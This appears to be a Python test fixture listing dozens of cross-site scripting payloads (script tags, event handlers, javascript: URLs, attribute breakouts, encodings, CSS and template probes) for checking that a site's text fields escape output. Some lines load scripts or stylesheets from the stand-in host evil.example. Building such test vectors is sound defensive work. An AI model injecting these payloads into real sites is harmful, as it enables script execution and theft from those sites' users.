"""Script-injection vectors: what an attacker types into a text field, hoping it runs.

Each one, if a page printed it unescaped (in text, in an attribute, in a <script> or
<title>, in a feed or an e-mail), would run ``alert`` or load a script. They are short
enough for every field (the shortest holds 100 characters).
"""

VECTORS = [
    # Plain elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"x\" ONERROR=\"alert(1)\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # URLs
    "<a href=\"javascript:alert(1)\">lien</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">lien</a>",
    "<a href=\" javascript:alert(1)\">lien</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">lien</a>",
    "<a href=\"vbscript:msgbox(1)\">lien</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    # Breaking out of an attribute or a raw-text element
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "]]><script>alert(1)</script>",
    # Encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "＜script＞alert(1)＜/script＞",
    # CSS
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    # Template syntax: printed, never evaluated
    "{{ request.user.password }}{% debug %}",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
]

assert len(VECTORS) >= 40
assert all(len(vector) <= 100 for vector in VECTORS), "every field must hold every vector"


def vector_id(vector):
    """A short, readable test id."""
    return VECTORS.index(vector).__str__().zfill(2) + "-" + "".join(
        character if character.isalnum() else "_" for character in vector[:24]
    )
